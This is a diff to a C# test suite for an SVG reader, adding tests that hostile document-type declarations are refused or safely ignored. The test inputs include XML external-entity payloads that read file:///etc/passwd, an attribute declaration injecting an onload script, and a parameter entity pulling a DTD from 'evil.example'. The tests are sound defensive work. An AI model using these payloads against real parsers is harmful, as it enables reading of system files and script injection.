@@ -100,8 +100,24 @@ public sealed class SvgTests
     {
         var bomb = Encoding.UTF8.GetBytes("<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'>&a;&b;</svg>");
 
-        Assert.Contains("declares entities", Refusal(bomb));
+        Assert.Contains("uses entities", Refusal(bomb));
     }
+
+    [Theory]
+    [InlineData("<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'>")]
+    [InlineData("<?xml version='1.0'?><!-- made long ago --><!DOCTYPE svg SYSTEM 'file:///etc/passwd' [<!ENTITY unused 'x'>]>")]
+    public void A_document_type_says_nothing_that_is_drawn(string type)
+    {
+        var picture = Picture.Read(Encoding.UTF8.GetBytes(type + "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><path d='M0 0h9v9z'/></svg>"), "logo.svg");
+
+        Assert.Single(Assert.IsType<VectorPicture>(picture).Shapes);
+    }
+
+    [Theory]
+    [InlineData("<!ATTLIST svg onload CDATA 'alert(1)'>")]
+    [InlineData("<!ENTITY % more SYSTEM 'http://evil.example/more.dtd'> %more;")]
+    public void A_document_type_that_would_give_elements_scripts_is_refused(string subset) =>
+        Assert.Contains("gives elements attributes of its own", Refusal(Encoding.UTF8.GetBytes($"<!DOCTYPE svg [{subset}]><svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>")));
 
     [Fact]
     public void Uses_of_uses_come_to_an_end()
